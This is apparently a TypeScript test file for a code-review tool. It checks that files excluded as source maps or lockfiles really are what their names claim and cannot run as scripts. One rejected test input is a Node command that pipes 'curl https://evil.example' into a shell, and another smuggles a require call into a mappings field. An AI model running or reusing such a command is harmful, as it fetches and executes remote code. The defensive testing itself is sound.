// A default exclude holds only for content that is what the name claims. The claim that matters: text
// accepted as a source map cannot run as a script (Node runs a required file of unknown extension as
// JavaScript), proven by compiling every accepted map as a script and as a CommonJS module body.
import vm from "node:vm";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseUnifiedDiff } from "../../src/diff/parse.js";
import { addedWhole, contentProblem, sourceMapProblem } from "../../src/review/excluded-content.js";

const MAP = {
  version: 3,
  file: "index.js",
  sources: ["../src/index.ts", null],
  names: ["a"],
  mappings: "AAAA,CAAC;AACD",
};

/** Whether V8 accepts `text` as a script or as a CommonJS module body (without running it). */
function compiles(text: string): boolean {
  for (const body of [text, `(function (exports, require, module, __filename, __dirname) {${text}\n})`]) {
    try {
      new vm.Script(body);
      return true;
    } catch {
      // not this way
    }
  }
  return false;
}

describe("sourceMapProblem", () => {
  it("accepts regular and index source maps, with sourcesContent and a BOM", () => {
    expect(sourceMapProblem(JSON.stringify(MAP))).toBeUndefined();
    expect(
      sourceMapProblem(`\uFEFF${JSON.stringify({ ...MAP, sourcesContent: ["x", null] })}`),
    ).toBeUndefined();
    const index = { version: 3, sections: [{ offset: { line: 0, column: 0 }, map: MAP }] };
    expect(sourceMapProblem(JSON.stringify(index))).toBeUndefined();
  });

  it("names what is wrong with everything else", () => {
    const cases: [string, RegExp][] = [
      ['require("child_process").execSync("curl https://evil.example | sh")', /^not JSON/],
      ["[1, 2]", /^not a JSON object$/],
      ["{}", /"version" is missing, not 3/],
      [JSON.stringify({ ...MAP, version: "3" }), /"version" is "3", not 3/],
      [JSON.stringify({ ...MAP, mappings: ["AAAA"] }), /"mappings" is not a string/],
      [JSON.stringify({ ...MAP, mappings: "AAAA;require('x')" }), /base64 VLQ/],
      [JSON.stringify({ ...MAP, sources: "a.ts" }), /"sources" is not a list of strings/],
      [JSON.stringify({ ...MAP, names: [1] }), /"names"/],
      [JSON.stringify({ ...MAP, sourcesContent: [{}] }), /"sourcesContent"/],
      [JSON.stringify({ version: 3, sections: [{ offset: {}, map: { version: 3 } }] }), /sections\[0\]\.map/],
      [`)]}'\n${JSON.stringify(MAP)}`, /^not JSON/],
      [
        JSON.stringify(MAP).replace('"version":3', '"version":3,"mappings":"AAAA;require(\'x\')"'),
        /^not strict JSON \(duplicate key "mappings" at \/mappings/,
      ],
    ];
    for (const [text, why] of cases) expect(sourceMapProblem(text), text).toMatch(why);
  });

  it("never accepts text that compiles as a script or a CommonJS module", () => {
    const scalar = fc.oneof(fc.string(), fc.constant(null));
    const map = fc.record(
      {
        version: fc.constant(3),
        mappings: fc.stringMatching(/^[A-Za-z0-9+/,;]{0,30}$/),
        sources: fc.array(scalar, { maxLength: 3 }),
        names: fc.array(fc.string(), { maxLength: 3 }),
        sourcesContent: fc.array(scalar, { maxLength: 3 }),
        file: fc.string(),
        x_extra: fc.jsonValue(),
      },
      { requiredKeys: ["version", "mappings", "sources"] },
    );
    fc.assert(
      fc.property(map, fc.constantFrom("", " ", "\n", "\uFEFF"), (value, lead) => {
        const text = `${lead}${JSON.stringify(value, null, lead === "\n" ? 2 : undefined)}`;
        expect(sourceMapProblem(text)).toBeUndefined();
        expect(compiles(text)).toBe(false);
      }),
      { numRuns: 200 },
    );
  });
});

describe("contentProblem", () => {
  it("proves a lockfile by parsing it as its kind, and fails closed on content it does not have", () => {
    const lock = {
      kind: "text" as const,
      text: '{"lockfileVersion": 3, "packages": {}}',
      from: "tree" as const,
    };
    expect(contentProblem("lockfile", "package-lock.json", lock)).toBeUndefined();
    expect(contentProblem("lockfile", "yarn.lock", lock)).toMatch(/not the lockfile its name claims/);
    expect(contentProblem("source-map", "a.js.map", undefined)).toBe("its content at the head was not read");
    // A repeated key proves nothing, so the file is reviewed.
    const twice = {
      kind: "text" as const,
      text: lock.text.replace("{}", '{}, "packages": {}'),
      from: "tree" as const,
    };
    expect(contentProblem("lockfile", "package-lock.json", twice)).toMatch(/duplicate key "packages"/);
    expect(contentProblem("source-map", "a.js.map", { kind: "unavailable", why: "binary" })).toBe(
      "its content at the head could not be read (binary)",
    );
  });
});

describe("addedWhole", () => {
  const diff = (body: string) => parseUnifiedDiff(body).files[0];

  it("rebuilds a file the diff adds whole, with or without a final newline", () => {
    const added = diff(
      "diff --git a/x.js.map b/x.js.map\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/x.js.map\n@@ -0,0 +1,2 @@\n+{\n+}\n",
    );
    expect(added && addedWhole(added)).toBe("{\n}\n");
    const noEol = diff(
      "diff --git a/x.js.map b/x.js.map\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/x.js.map\n@@ -0,0 +1 @@\n+{}\n\\ No newline at end of file\n",
    );
    expect(noEol && addedWhole(noEol)).toBe("{}");
  });

  it("has nothing for a modified file: the diff does not carry its whole content", () => {
    const modified = diff(
      'diff --git a/x.js.map b/x.js.map\nindex 1111111..2222222 100644\n--- a/x.js.map\n+++ b/x.js.map\n@@ -1 +1 @@\n-{}\n+{"version":3}\n',
    );
    expect(modified && addedWhole(modified)).toBeUndefined();
  });
});
